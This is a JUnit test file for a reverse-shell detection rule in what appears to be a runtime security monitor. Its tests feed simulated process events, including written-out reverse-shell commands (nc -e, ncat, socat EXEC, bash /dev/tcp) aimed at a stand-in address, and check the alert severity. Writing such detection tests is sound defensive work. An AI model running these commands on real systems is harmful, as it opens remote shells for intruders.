package dev.lazaret.behavior.builtin;

import static dev.lazaret.behavior.TestRuns.findings;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.behavior.Event;
import dev.lazaret.finding.Finding;
import dev.lazaret.finding.Severity;
import org.junit.jupiter.api.Test;

final class ReverseShellRuleTest {
  private static final ReverseShellRule RULE = new ReverseShellRule();
  private static final String PLACE = "203.0.113.7";
  private final Actor child = Actor.of(8, 7, "/usr/bin/python3.11");
  private final Actor shell = Actor.of(7, 1, "/bin/bash");

  private static void assertSeverity(Severity severity, Event... events) {
    assertThat(findings(RULE, events)).extracting(Finding::severity).containsExactly(severity);
  }

  private static void assertQuiet(Event... events) {
    assertThat(findings(RULE, events)).isEmpty();
  }

  @Test
  void findsAShellWhoseStreamsAreAConnectionToTheOutside() {
    assertSeverity(
        Severity.CRITICAL,
        child.connects(PLACE, 4444),
        child.turnsToConnection(0, PLACE, 4444),
        child.turnsToConnection(1, PLACE, 4444),
        child.executes("/bin/sh", "/bin/sh", "-i"));
  }

  @Test
  void findsItsStreamsInAChild() {
    assertSeverity(
        Severity.CRITICAL,
        shell.turnsToConnection(0, PLACE, 4444),
        shell.turnsToConnection(1, PLACE, 4444),
        shell.forks(8),
        Actor.of(8, 7, "/bin/bash").executes("/bin/busybox", "sh"));
  }

  @Test
  void findsAnInterpreterThatIsToldWhatToDo() {
    assertSeverity(
        Severity.CRITICAL,
        child.turnsToConnection(0, PLACE, 4444),
        child.turnsToConnection(1, PLACE, 4444),
        child.executes("/usr/bin/perl", "perl"));
  }

  @Test
  void findsAShellOnATerminalThatItsParentServes() {
    var python = Actor.of(7, 1, "/usr/bin/python3.11");
    var served = Actor.of(8, 7, "/usr/bin/python3.11");

    assertThat(
            findings(
                RULE,
                python.turnsToConnection(0, PLACE, 4444),
                python.turnsToConnection(1, PLACE, 4444),
                python.forks(8),
                served.turns(0, "/dev/pts/0"),
                served.turns(1, "/dev/pts/0"),
                served.executes("/bin/bash", "/bin/bash")))
        .extracting(Finding::severity)
        .containsExactly(Severity.CRITICAL);
  }

  @Test
  void findsOrdersToHandOutAShell() {
    var sh = Actor.of(7, 1, "/bin/sh");

    assertSeverity(
        Severity.CRITICAL, sh.executes("/bin/busybox", "nc", PLACE, "4444", "-e", "/bin/sh"));
    assertSeverity(
        Severity.CRITICAL, sh.executes("/usr/bin/ncat", "ncat", "-nve", "/bin/bash", PLACE, "1"));
    assertSeverity(
        Severity.CRITICAL,
        sh.executes("/usr/bin/socat", "socat", "TCP:" + PLACE + ":1", "EXEC:'bash -li',pty"));
    assertSeverity(
        Severity.CRITICAL,
        sh.executes("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"));
  }

  @Test
  void asksForALookWhereAShellTurnsItsOwnStreams() {
    assertSeverity(
        Severity.HIGH,
        shell.turnsToConnection(0, PLACE, 4444),
        shell.turnsToConnection(1, PLACE, 4444),
        shell.forks(8));
  }

  @Test
  void asksForALookWhereAnInteractiveShellRunsBesideACopyingProgram() {
    assertSeverity(
        Severity.HIGH,
        Actor.of(8, 7, "/bin/sh").executes("/bin/sh", "sh", "-i"),
        Actor.of(9, 7, "/bin/nc", PLACE, "4444").connects(PLACE, 4444));
  }

  @Test
  void hearsAShellComplain() {
    assertSeverity(
        Severity.CRITICAL,
        child.says(PLACE, 4444, null, "TCP", "sh: can't access tty; job control turned off"));
  }

  @Test
  void leavesShellsWithOtherStreamsAlone() {
    assertQuiet(
        child.connects(PLACE, 5432),
        child.turns(0, "socket:[2]"),
        child.turns(1, "socket:[2]"),
        child.executes("/bin/sh", "sh", "-c", "date"));
  }

  @Test
  void leavesConnectionsWithinTheImageAlone() {
    assertQuiet(
        child.turnsToConnection(0, "127.0.0.1", 9000),
        child.turnsToConnection(1, "127.0.0.1", 9000),
        child.executes("/bin/sh", "sh"));
  }

  @Test
  void leavesScriptsThatSpeakOverAConnectionAlone() {
    assertQuiet(
        shell.turnsToConnection(1, PLACE, 80),
        shell.forks(8),
        shell.turns(1, "pipe:[1]"),
        shell.turnsToConnection(0, PLACE, 80),
        shell.executes("/bin/cat", "cat"));
  }

  @Test
  void leavesScriptsThatWaitForAPortAlone() {
    assertQuiet(
        shell.executes("/bin/bash", "bash", "-c", "until </dev/tcp/db/5432; do sleep 1; done"),
        shell.executes("/bin/nc", "nc", "-z", "db", "5432"),
        shell.executes("/usr/bin/socat", "socat", "TCP-LISTEN:80", "EXEC:/usr/lib/answer.sh"));
  }
}
